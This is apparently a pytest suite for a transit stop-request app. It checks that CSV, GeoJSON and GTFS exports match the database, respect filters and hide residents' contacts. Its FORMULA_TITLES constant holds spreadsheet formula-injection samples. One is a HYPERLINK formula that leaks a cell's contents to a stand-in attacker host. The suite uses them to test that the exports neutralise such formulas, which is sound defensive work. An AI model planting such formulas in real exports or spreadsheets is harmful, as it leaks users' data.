"""Planners export requests and projects for other offices, and new stops for the bus operator.

Every file is downloaded through the logged-in app, parsed back, and compared row by row with
the database, on SpatiaLite and on PostGIS.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass
from datetime import UTC, timedelta

import pytest
from geoalchemy2.shape import from_shape, to_shape
from shapely.geometry import Point, box, shape
from sqlalchemy import select, update

from tests.factories import (
    RAILWAY_SQUARE,
    add_service_area,
    add_user,
    approve_request,
    file_request,
    log_in,
    offset,
    take_to_stage,
)
from transitreq import create_app
from transitreq.geo.metric import BoundingBox
from transitreq.models import (
    Milestone,
    MilestoneKind,
    MilestoneState,
    ProjectStage,
    RequestStatus,
    StopProject,
    StopRequest,
    utc_now,
)
from transitreq.services.analysis.queue import QueueQuery, review_queue
from transitreq.services.projects import stages as projects
from transitreq.services.requests import decisions
from transitreq.services.requests.filing import support_request

EXPORTS = "/planning/exports"
WEST = box(24.90, 60.150, RAILWAY_SQUARE.x, 60.190)
EAST = box(RAILWAY_SQUARE.x, 60.150, 24.98, 60.190)
REPORTER_NAME = "Aino Virtanen"
REPORTER_CONTACT = "aino@example.org"
SUPPORTER_CONTACT = "private.supporter@example.org"
SUPPORTER_NAME = "Pirjo Private"
FORMULA_TITLES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+2 stop by the mall",
    "-3 stop at the lake",
    "@SUM(A1:A9) corner",
)
REQUEST_HEADER = [
    "reference",
    "title",
    "status",
    "district",
    "supporters",
    "score",
    "created_at",
    "lat",
    "lon",
    "project_id",
    "tracking_url",
]
GTFS_HEADER = [
    "stop_id",
    "stop_code",
    "stop_name",
    "stop_desc",
    "stop_lat",
    "stop_lon",
    "location_type",
    "wheelchair_boarding",
]


@dataclass
class City:
    planner: object
    # Project id by the stage it was taken to.
    project_ids: dict[str, int]


def _district(point: Point) -> str:
    return "West" if point.x < RAILWAY_SQUARE.x else "East"


@pytest.fixture
def city(app_session) -> City:
    """Requests in every kind of state and projects in several stages, in two districts."""
    add_service_area(app_session, WEST, "West")
    add_service_area(app_session, EAST, "East")
    planner = add_user(app_session, "planner")
    for number, title in enumerate(FORMULA_TITLES):
        point = offset(RAILWAY_SQUARE, 250 + number * 40, 600 + number * 150)
        file_request(app_session, title=title, point=point)
    supported = file_request(
        app_session, title="Stop for the clinic", point=offset(RAILWAY_SQUARE, 90, 700)
    )
    support_request(app_session, supported.reference, SUPPORTER_CONTACT, name=SUPPORTER_NAME)
    reviewed = file_request(
        app_session, title="Stop by the library", point=offset(RAILWAY_SQUARE, 200, 1300)
    )
    app_session.execute(
        update(StopRequest)
        .where(StopRequest.id == reviewed.id)
        .values(status=RequestStatus.UNDER_REVIEW, score=64.5)
    )
    app_session.execute(
        update(StopRequest).where(StopRequest.id == supported.id).values(score=81.25)
    )
    app_session.commit()
    rejected = file_request(
        app_session, title="Stop on the bridge", point=offset(RAILWAY_SQUARE, 20, 900)
    )
    decisions.reject(app_session, rejected.reference, rejected.version, planner, "low_demand")

    project_ids = {}
    sites = {
        "approved": (60, 1500),
        "site_survey": (120, 1100),
        "construction": (300, 1400),
        "in_service": (160, 1800),
        "cancelled": (340, 800),
    }
    for stage, (bearing, metres) in sites.items():
        project = approve_request(
            app_session,
            planner,
            title=f"=Stop planned for {stage}" if stage == "site_survey" else f"Stop {stage}",
            point=offset(RAILWAY_SQUARE, bearing, metres),
        )
        if stage == "cancelled":
            projects.cancel(app_session, project.id, project.version, planner, "Road works.")
        elif stage != "approved":
            take_to_stage(app_session, project, planner, stage)
        project_ids[stage] = project.id
    # A second request joins the approved project, approved together with the first.
    site = offset(RAILWAY_SQUARE, 45, 2100)
    first = file_request(app_session, title="Stop at the ferry", point=site)
    file_request(app_session, title="Ferry stop, please", point=offset(site, 90, 60))
    linked = decisions.approve(
        app_session, first.reference, first.version, planner, site, link_radius_m=150
    )
    project_ids["linked"] = linked.id
    # The survey of the project in site survey is late.
    app_session.execute(
        update(Milestone)
        .where(
            Milestone.project_id == project_ids["site_survey"],
            Milestone.kind == MilestoneKind.SITE_SURVEY,
        )
        .values(due_date=utc_now().date() - timedelta(days=5))
    )
    app_session.commit()
    return City(planner, project_ids)


def _get(client, path: str, **params):
    response = client.get(f"{EXPORTS}/{path}", query_string=params)
    assert response.status_code == 200, response.get_data(as_text=True)[:800]
    return response


def _csv_rows(response) -> tuple[list[str], list[dict[str, str]]]:
    text = response.get_data().decode("utf-8-sig")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    return list(reader.fieldnames), list(reader)


def _all_requests(session) -> list[StopRequest]:
    session.expire_all()
    return list(
        session.scalars(
            select(StopRequest).order_by(StopRequest.created_at.desc(), StopRequest.id.desc())
        )
    )


def _iso(moment) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def _spreadsheet_text(text: str) -> str:
    return "'" + text if text[:1] in ("=", "+", "-", "@") else text


def test_requests_csv_holds_every_request_as_the_database_does(client, app_session, city):
    log_in(client, app_session)
    response = _get(client, "requests.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="requests.csv"'
    header, rows = _csv_rows(response)
    assert header == REQUEST_HEADER
    expected = _all_requests(app_session)
    # The queue's default order: newest first.
    assert [row["reference"] for row in rows] == [r.reference for r in expected]
    for row, stop_request in zip(rows, expected, strict=True):
        point = to_shape(stop_request.location)
        assert row["title"] == _spreadsheet_text(stop_request.title)
        assert row["status"] == stop_request.status.value
        assert row["district"] == _district(point)
        assert int(row["supporters"]) == stop_request.supporter_count
        if stop_request.score is None:
            assert row["score"] == ""
        else:
            assert float(row["score"]) == pytest.approx(stop_request.score)
        assert row["created_at"] == _iso(stop_request.created_at)
        assert abs(float(row["lat"]) - point.y) <= 1e-6
        assert abs(float(row["lon"]) - point.x) <= 1e-6
        assert len(row["lat"].split(".")[1]) == 6
        assert row["project_id"] == (
            str(stop_request.project_id) if stop_request.project_id else ""
        )
        assert row["tracking_url"] == f"http://transitreq.test/requests/{stop_request.reference}"
    # Every status the city has reached is there.
    assert {row["status"] for row in rows} == {
        "submitted",
        "under_review",
        "approved",
        "rejected",
        "completed",
    }


def test_requests_geojson_places_each_request_at_its_pin(client, app_session, city):
    log_in(client, app_session)
    response = _get(client, "requests.geojson")
    assert response.headers["Content-Type"] == "application/geo+json"
    assert response.headers["Content-Disposition"] == 'attachment; filename="requests.geojson"'
    collection = json.loads(response.get_data())
    assert collection["type"] == "FeatureCollection"
    expected = {r.reference: r for r in _all_requests(app_session)}
    assert [f["id"] for f in collection["features"]] == list(expected)
    for feature in collection["features"]:
        stop_request = expected[feature["id"]]
        site = shape(feature["geometry"])
        assert site.geom_type == "Point"
        assert site.distance(to_shape(stop_request.location)) <= 1e-6
        properties = feature["properties"]
        assert set(properties) == set(REQUEST_HEADER) - {"lat", "lon"}
        # GeoJSON is not a spreadsheet: titles are exactly what the resident wrote.
        assert properties["title"] == stop_request.title
        assert properties["status"] == stop_request.status.value
        assert properties["district"] == _district(site)
        assert properties["supporters"] == stop_request.supporter_count
        assert properties["score"] == stop_request.score
        assert properties["project_id"] == stop_request.project_id
        assert properties["created_at"] == _iso(stop_request.created_at)


REQUEST_FILTERS = (
    {"status": ["submitted", "under_review"]},
    {"status": "approved,completed", "district": "West"},
    {"district": "East", "sort": "-score"},
    {"min_score": "60", "max_score": "90", "sort": "score"},
    {"q": "bridge", "status": "rejected"},
    {"q": "ferry", "sort": "created_at"},
    {"bbox": f"{RAILWAY_SQUARE.x - 0.01},60.15,{RAILWAY_SQUARE.x + 0.01},60.19"},
)


def _queue_query(params: dict) -> QueueQuery:
    statuses = params.get("status", [])
    if isinstance(statuses, str):
        statuses = statuses.split(",")
    bbox = params.get("bbox")
    sort = params.get("sort", "-created_at")
    return QueueQuery(
        box=None if bbox is None else BoundingBox(*(float(part) for part in bbox.split(","))),
        statuses=tuple(RequestStatus(status) for status in statuses),
        district=params.get("district"),
        min_score=float(params["min_score"]) if "min_score" in params else None,
        max_score=float(params["max_score"]) if "max_score" in params else None,
        text=params.get("q", ""),
        sort=sort.lstrip("-"),
        descending=sort.startswith("-"),
        per_page=200,
    )


def test_request_exports_follow_the_queue_filters(client, app_session, city, subtests):
    """The same filters give the same requests, in the same order, as the review queue."""
    log_in(client, app_session)
    everyone = len(_all_requests(app_session))
    for params in REQUEST_FILTERS:
        with subtests.test(params=params):
            expected = [
                row.reference for row in review_queue(app_session, _queue_query(params)).rows
            ]
            assert 0 < len(expected) < everyone, "each filter keeps some requests, not all"
            _, rows = _csv_rows(_get(client, "requests.csv", **params))
            assert [row["reference"] for row in rows] == expected
            collection = json.loads(_get(client, "requests.geojson", **params).get_data())
            assert [feature["id"] for feature in collection["features"]] == expected
            if "district" in params:
                assert {row["district"] for row in rows} == {params["district"]}


def test_no_export_carries_a_residents_name_or_contact(client, app_session, city):
    log_in(client, app_session)
    bodies = [
        _get(client, path).get_data(as_text=True)
        for path in (
            "requests.csv",
            "requests.geojson",
            "projects.csv",
            "projects.geojson",
            "stops.txt",
        )
    ]
    for body in bodies:
        for private in (REPORTER_NAME, REPORTER_CONTACT, SUPPORTER_CONTACT, SUPPORTER_NAME):
            assert private not in body
        for word in ("reporter", "contact", "email"):
            assert word not in body.lower()


def test_formulas_in_titles_are_neutralised_in_csv_but_not_in_geojson(client, app_session, city):
    log_in(client, app_session)
    _, rows = _csv_rows(_get(client, "requests.csv"))
    titles = {row["title"] for row in rows}
    for title in FORMULA_TITLES:
        assert "'" + title in titles
    assert not [row for row in rows if row["title"][:1] in ("=", "+", "-", "@")]
    # Numbers stay numbers: a negative coordinate or score would not be quoted.
    _, project_rows = _csv_rows(_get(client, "projects.csv"))
    names = {row["name"] for row in project_rows}
    assert "'=Stop planned for site_survey" in names
    stops = list(csv.DictReader(io.StringIO(_get(client, "stops.txt").get_data(as_text=True))))
    # GTFS is read by programs, not spreadsheets: names go out exactly as stored.
    assert "=Stop planned for site_survey" in {stop["stop_name"] for stop in stops}
    collection = json.loads(_get(client, "requests.geojson").get_data())
    assert set(FORMULA_TITLES) <= {f["properties"]["title"] for f in collection["features"]}


def _projects(session) -> dict[int, StopProject]:
    session.expire_all()
    return {project.id: project for project in session.scalars(select(StopProject))}


def _expected_project(project: StopProject, today) -> dict[str, object]:
    sign_offs = project.sign_offs
    return {
        "stop_id": f"TRQ-{project.id}",
        "name": project.name,
        "stage": project.status.value,
        "approved_at": _iso(project.created_at),
        "service_start_date": (
            project.service_start_date.isoformat() if project.service_start_date else None
        ),
        "launch_routes": list(project.launch_routes),
        "sign_offs_given": sum(1 for m in sign_offs if m.state is MilestoneState.APPROVED),
        "sign_offs_required": len(sign_offs),
        "overdue_milestones": [m.title for m in project.milestones if m.is_overdue(today)],
        "request_references": [r.reference for r in project.requests],
    }


def test_projects_csv_and_geojson_match_the_database(client, app_session, city):
    log_in(client, app_session)
    today = utc_now().date()
    stored = _projects(app_session)
    header, rows = _csv_rows(_get(client, "projects.csv"))
    assert header == [
        "id",
        "stop_id",
        "name",
        "stage",
        "approved_at",
        "service_start_date",
        "launch_routes",
        "sign_offs_given",
        "sign_offs_required",
        "overdue_milestones",
        "lat",
        "lon",
        "request_references",
    ]
    assert [int(row["id"]) for row in rows] == sorted(stored)
    for row in rows:
        project = stored[int(row["id"])]
        expected = _expected_project(project, today)
        site = to_shape(project.location)
        assert row["stop_id"] == expected["stop_id"]
        assert row["name"] == _spreadsheet_text(project.name)
        assert row["stage"] == expected["stage"]
        assert row["approved_at"] == expected["approved_at"]
        assert row["service_start_date"] == (expected["service_start_date"] or "")
        assert row["launch_routes"] == "; ".join(expected["launch_routes"])
        assert int(row["sign_offs_given"]) == expected["sign_offs_given"]
        assert int(row["sign_offs_required"]) == expected["sign_offs_required"]
        assert row["overdue_milestones"] == "; ".join(expected["overdue_milestones"])
        assert row["request_references"] == "; ".join(expected["request_references"])
        assert abs(float(row["lat"]) - site.y) <= 1e-6
        assert abs(float(row["lon"]) - site.x) <= 1e-6

    by_stage = {row["stage"]: row for row in rows}
    in_service = by_stage["in_service"]
    assert in_service["launch_routes"] == "7"
    assert in_service["service_start_date"] == today.isoformat()
    assert in_service["sign_offs_given"] == in_service["sign_offs_required"] == "4"
    assert by_stage["site_survey"]["overdue_milestones"] == "Site survey"
    linked = next(row for row in rows if int(row["id"]) == city.project_ids["linked"])
    assert len(linked["request_references"].split("; ")) == 2

    collection = json.loads(_get(client, "projects.geojson").get_data())
    assert [feature["id"] for feature in collection["features"]] == sorted(stored)
    for feature in collection["features"]:
        project = stored[feature["id"]]
        assert shape(feature["geometry"]).distance(to_shape(project.location)) <= 1e-6
        properties = feature["properties"]
        assert properties.pop("id") == project.id
        assert properties == _expected_project(project, today)


PROJECT_FILTERS = (
    ({"stage": "construction"}, {"construction"}),
    ({"stage": ["approved", "in_service"]}, {"approved", "in_service"}),
    ({"stage": "cancelled,site_survey"}, {"cancelled", "site_survey"}),
    ({"overdue": "1"}, {"site_survey"}),
    ({"overdue": "1", "stage": "construction"}, set()),
)


def test_project_exports_follow_stage_and_overdue_filters(client, app_session, city, subtests):
    log_in(client, app_session)
    stored = _projects(app_session)
    for params, stages in PROJECT_FILTERS:
        with subtests.test(params=params):
            expected = sorted(
                project_id
                for project_id, project in stored.items()
                if project.status.value in stages
            )
            _, rows = _csv_rows(_get(client, "projects.csv", **params))
            assert [int(row["id"]) for row in rows] == expected
            collection = json.loads(_get(client, "projects.geojson", **params).get_data())
            assert [feature["id"] for feature in collection["features"]] == expected


def _stops(client, **params) -> list[dict[str, str]]:
    response = _get(client, "stops.txt", **params)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="stops.txt"'
    body = response.get_data()
    assert not body.startswith(b"\xef\xbb\xbf"), "GTFS files carry no byte order mark"
    text = body.decode("utf-8")
    assert text.endswith("\r\n")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert reader.fieldnames == GTFS_HEADER
    return list(reader)


def _check_gtfs_rules(stops: list[dict[str, str]]) -> None:
    ids = [stop["stop_id"] for stop in stops]
    assert len(ids) == len(set(ids))
    for stop in stops:
        # stop_name, stop_lat and stop_lon are required for a stop (location_type 0).
        assert stop["location_type"] == "0"
        assert stop["stop_id"] and stop["stop_name"]
        assert -90 <= float(stop["stop_lat"]) <= 90
        assert -180 <= float(stop["stop_lon"]) <= 180
        assert stop["wheelchair_boarding"] in ("", "0", "1", "2")


def test_gtfs_stops_are_every_project_planned_or_in_service(client, app_session, city):
    log_in(client, app_session)
    stops = _stops(client)
    _check_gtfs_rules(stops)
    stored = _projects(app_session)
    expected = sorted(
        project_id
        for project_id, project in stored.items()
        if project.status is not ProjectStage.CANCELLED
    )
    assert [stop["stop_id"] for stop in stops] == [f"TRQ-{project_id}" for project_id in expected]
    assert f"TRQ-{city.project_ids['cancelled']}" not in {stop["stop_id"] for stop in stops}
    for stop in stops:
        project = stored[int(stop["stop_id"].removeprefix("TRQ-"))]
        site = to_shape(project.location)
        assert stop["stop_name"] == project.name
        assert abs(float(stop["stop_lat"]) - site.y) <= 1e-6
        assert abs(float(stop["stop_lon"]) - site.x) <= 1e-6
    by_id = {stop["stop_id"]: stop for stop in stops}
    in_service = by_id[f"TRQ-{city.project_ids['in_service']}"]
    assert in_service["stop_desc"].startswith("New stop, in service from")
    assert "planned" in by_id[f"TRQ-{city.project_ids['approved']}"]["stop_desc"]
    only_in_service = _stops(client, stage="in_service")
    assert [stop["stop_id"] for stop in only_in_service] == [in_service["stop_id"]]


def test_gtfs_stop_ids_stay_the_same_as_projects_come_and_move(client, app_session, city):
    log_in(client, app_session)
    first = _stops(client)
    assert _stops(client) == first
    # A new project, and the approved one moves on to its site survey.
    approve_request(
        app_session, city.planner, title="Stop at the school", point=offset(RAILWAY_SQUARE, 0, 300)
    )
    moved = app_session.get(StopProject, city.project_ids["approved"])
    projects.start_survey(app_session, moved.id, moved.version, city.planner)
    later = _stops(client)
    _check_gtfs_rules(later)
    assert len(later) == len(first) + 1
    later_by_id = {stop["stop_id"]: stop for stop in later}
    for stop in first:
        again = later_by_id[stop["stop_id"]]
        assert (again["stop_name"], again["stop_lat"], again["stop_lon"]) == (
            stop["stop_name"],
            stop["stop_lat"],
            stop["stop_lon"],
        )
    # Once cancelled, a stop leaves the fragment; the others keep their ids.
    cancelled = app_session.get(StopProject, city.project_ids["construction"])
    projects.cancel(app_session, cancelled.id, cancelled.version, city.planner, "No budget.")
    remaining = {stop["stop_id"] for stop in _stops(client)}
    assert remaining == set(later_by_id) - {f"TRQ-{cancelled.id}"}


def test_stop_id_prefix_comes_from_the_deployment(database_url, tmp_path, app_session, city):
    app = create_app(
        {
            "TESTING": True,
            "DATABASE_URL": database_url,
            "SECRET_KEY": "tests-only-secret",
            "TILE_URL": "",
            "SERVER_NAME": "transitreq.test",
            "RATELIMIT_ENABLED": False,
            "GTFS_STOP_ID_PREFIX": "RIVERBEND:new:",
        },
        instance_path=str(tmp_path / "prefixed"),
    )
    try:
        client = app.test_client()
        log_in(client, app_session)
        stops = _stops(client)
        _, projects_rows = _csv_rows(_get(client, "projects.csv"))
    finally:
        app.extensions["transitreq.engine"].dispose()
    assert stops and all(stop["stop_id"].startswith("RIVERBEND:new:") for stop in stops)
    assert {row["stop_id"] for row in projects_rows} >= {stop["stop_id"] for stop in stops}


REFUSED_ON_THE_PAGE = (
    ("requests.csv", {"status": "pending"}, "status"),
    ("requests.csv", {"district": "Atlantis"}, "district"),
    ("requests.csv", {"min_score": "lots"}, "min_score"),
    ("requests.csv", {"min_score": "80", "max_score": "20"}, "min_score"),
    ("requests.csv", {"bbox": "1,2,3"}, "bbox"),
    ("requests.csv", {"sort": "reporter"}, "sort"),
    ("projects.csv", {"stage": "demolished"}, "stage"),
    ("projects.csv", {"overdue": "maybe"}, "overdue"),
    ("stops.txt", {"stage": "cancelled"}, "stage"),
)
REFUSED_AS_JSON = (
    ("requests.geojson", {"max_score": "nan"}, "max_score"),
    ("requests.geojson", {"status": "approved,bogus"}, "status"),
    ("projects.geojson", {"stage": "approved,demolished"}, "stage"),
)
# How the JSON error's message names each field: the queue's filters by their labels (as the
# form shows them), the project filter by its parameter.
NAMED_IN_MESSAGE = {"max_score": "“Score to”", "status": "“Status”", "stage": "stage"}


def test_bad_filters_are_refused_with_422_naming_the_field(client, app_session, city, subtests):
    log_in(client, app_session)
    for path, params, field in REFUSED_ON_THE_PAGE:
        with subtests.test(path=path, params=params):
            response = client.get(f"{EXPORTS}/{path}", query_string=params)
            assert response.status_code == 422
            assert response.content_type.startswith("text/html")
            page = response.get_data(as_text=True)
            assert 'role="alert"' in page
            # The summary links to the field, named by its label in the reader's language.
            assert f'<a href="#{field}">' in page
            assert "<form" in page, "the page offers the form again"
    # GeoJSON is read by programs: they get the JSON error every API gives.
    for path, params, field in REFUSED_AS_JSON:
        with subtests.test(path=path, params=params):
            response = client.get(f"{EXPORTS}/{path}", query_string=params)
            assert response.status_code == 422
            error = response.get_json()["error"]
            assert error["code"] == "validation_failed"
            assert error["field"] == field
            assert NAMED_IN_MESSAGE[field] in error["message"]


def test_exports_page_offers_every_export_with_the_queue_filters(client, app_session, city):
    log_in(client, app_session)
    response = client.get(f"{EXPORTS}/")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    for path in ("requests.csv", "requests.geojson", "projects.csv", "projects.geojson"):
        assert f"{EXPORTS}/{path}" in page
    assert f"{EXPORTS}/stops.txt" in page
    for name in ("status", "district", "min_score", "max_score", "q", "bbox", "sort", "stage"):
        assert f'name="{name}"' in page
    assert '<option value="West">West</option>' in page
    assert "TRQ-" in page
    assert "dashboard.css" in page


EXPORT_PATHS = (
    "",
    "requests.csv",
    "requests.geojson",
    "projects.csv",
    "projects.geojson",
    "stops.txt",
)


def test_exports_are_for_planners_only(client, app_session, city):
    for path in EXPORT_PATHS:
        response = client.get(f"{EXPORTS}/{path}")
        assert response.status_code == 302, path
        assert "/login?next=" in response.headers["Location"]
    log_in(client, app_session, role="department")
    for path in EXPORT_PATHS:
        assert client.get(f"{EXPORTS}/{path}").status_code == 403, path


def test_a_request_outside_every_district_is_exported_without_one(client, app_session, city):
    log_in(client, app_session)
    stray = file_request(app_session, title="Stop far away", point=offset(RAILWAY_SQUARE, 0, 500))
    app_session.execute(
        update(StopRequest)
        .where(StopRequest.id == stray.id)
        .values(location=from_shape(Point(25.3, 60.4), srid=4326))
    )
    app_session.commit()
    _, rows = _csv_rows(_get(client, "requests.csv", q=stray.reference))
    assert [(row["reference"], row["district"]) for row in rows] == [(stray.reference, "")]
